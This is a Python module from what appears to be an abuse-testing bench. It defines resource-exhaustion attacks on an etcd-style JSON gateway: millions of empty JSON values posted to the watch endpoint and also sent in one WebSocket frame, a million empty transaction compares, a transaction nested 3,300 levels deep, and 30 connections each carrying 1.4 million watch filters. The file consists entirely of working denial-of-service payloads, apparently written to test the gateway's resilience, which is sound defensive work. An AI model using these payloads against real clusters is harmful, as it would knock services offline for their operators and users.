"""Attacks on the JSON gateway: bodies that are cheap to send and costly to parse."""

import socket
import time
from collections import Counter

from bench.abuse.http_attacks import in_words
from bench.abuse.target import Attack, Seen, Target
from bench.abuse.wire import connect, request, status_of

WATCH = b"/v3/watch"
TXN = b"/v3/kv/txn"
LEVELS = 3_300
HANDSHAKE = (
    b"GET /v3/watch HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
)


def _posted(target: Target, path: bytes, body: bytes, deadline: float) -> str:
    """Post a body and return the answer's status, if an answer comes before the deadline."""
    with connect(target.client, deadline - time.monotonic()) as connection:
        try:
            connection.sendall(request(path, method=b"POST", body=body))
            connection.settimeout(max(0.01, deadline - time.monotonic()))
            return status_of(connection.recv(1000))
        except TimeoutError:
            return "no answer"
        except OSError as error:
            return type(error).__name__


def empty_values(target: Target, count: int, deadline: float) -> Seen:
    """Post `count` empty requests to a watch, which answers none of them."""
    end = min(deadline, time.monotonic() + 3 * target.hold_seconds)
    status = _posted(target, WATCH, b"{}" * count, end)
    return Seen(f"{2 * count:,} bytes: {status}")


def empty_values_by_websocket(target: Target, count: int, deadline: float) -> Seen:
    """Send `count` empty requests in one message of a WebSocket."""
    end = min(deadline, time.monotonic() + 3 * target.hold_seconds)
    payload = b"{}" * count
    with connect(target.client, end - time.monotonic()) as connection:
        connection.sendall(HANDSHAKE)
        status = status_of(connection.recv(1000))
        connection.settimeout(max(0.01, end - time.monotonic()))
        try:
            # A mask of zeros leaves the payload as it is.
            head = b"\x81\xff" + len(payload).to_bytes(8, "big") + bytes(4)
            connection.sendall(head + payload)
            connection.recv(1000)
        except OSError:
            pass
    return Seen(f"{len(payload):,} bytes after {status}")


def empty_compares(target: Target, count: int, deadline: float) -> Seen:
    """Post one Txn with `count` empty compares."""
    body = b'{"compare":[' + b",".join([b"{}"] * count) + b"]}"
    return Seen(f"{len(body):,} bytes: {_posted(target, TXN, body, deadline)}")


def nested_txn(target: Target, count: int, deadline: float) -> Seen:
    """Post one Txn nested 3,300 deep around a value of `count` bytes."""
    opening, closing = b'{"success":[{"requestTxn":', b"}]}"
    put = b'{"success":[{"requestPut":{"key":"YQ==","value":"' + b"A" * count + b'"}}]}'
    body = opening * LEVELS + put + closing * LEVELS
    return Seen(f"{len(body):,} bytes: {_posted(target, TXN, body, deadline)}")


def many_filters(target: Target, count: int, deadline: float) -> Seen:
    """Create 30 watches on as many connections, each with `count` filters."""
    filters = b",".join([b"0"] * count)
    body = b'{"create_request":{"key":"YQ==","filters":[' + filters + b"]}}"
    seen: Counter[str] = Counter()
    made: list[socket.socket] = []
    try:
        for _ in range(30):
            made.append(connect(target.client, 1.0))
            made[-1].settimeout(max(0.01, deadline - time.monotonic()))
            made[-1].sendall(request(WATCH, method=b"POST", body=body))
        for each in made:
            each.settimeout(max(0.01, deadline - time.monotonic()))
            seen[status_of(each.recv(1000))] += 1
    except OSError as error:
        seen[type(error).__name__] += 1
    finally:
        for each in made:
            each.close()
    return Seen(f"30 x {len(body):,} bytes: {in_words(seen)}")


ATTACKS = (
    Attack("JSON: 1.6 million empty values", empty_values, 1_600_000, 5_000, 60.0),
    Attack("JSON: the same by WebSocket", empty_values_by_websocket, 1_600_000, 5_000, 60.0),
    Attack("JSON: a million compares", empty_compares, 1_000_000, 1_000),
    Attack("JSON: Txn 3,300 deep", nested_txn, 2_000_000, 1_000),
    Attack("JSON: 1.4 million filters", many_filters, 1_400_000, 1_000, 60.0),
)
